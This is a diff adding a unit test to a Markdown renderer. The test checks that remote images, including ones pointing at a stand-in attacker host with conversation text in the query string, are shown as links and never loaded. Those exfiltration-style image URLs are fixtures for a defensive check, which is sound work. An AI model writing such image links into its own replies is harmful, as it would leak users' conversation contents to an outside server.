@@ -42,4 +42,25 @@ describe('Markdown', () => {
     expect(container.querySelector('a[href="https://example.com"]')).not.toBeNull();
     vi.unstubAllGlobals();
   });
+
+  it('never loads a remote image: it shows a link instead, so rendering cannot leak the conversation', () => {
+    const text = [
+      '![chart](https://evil.example/pixel.png?d=the%20secret%20plan)',
+      '![](http://127.0.0.1:9/leak?d=x)',
+      '![proto](//evil.example/p.gif)',
+      '![local](/favicon.svg)',
+    ].join('\n\n');
+    const { container } = render(<Markdown text={text} />);
+    const images = [...container.querySelectorAll('img')].map((i) => i.getAttribute('src'));
+    expect(images).toEqual(['/favicon.svg']);
+    const links = [...container.querySelectorAll('a.remote-image')];
+    expect(links.map((a) => a.getAttribute('href'))).toEqual([
+      'https://evil.example/pixel.png?d=the%20secret%20plan',
+      'http://127.0.0.1:9/leak?d=x',
+      '//evil.example/p.gif',
+    ]);
+    expect(links[0].textContent).toContain('chart');
+    expect(links[0].textContent).toContain('evil.example');
+    expect(links[0].getAttribute('rel')).toContain('noreferrer');
+  });
 });
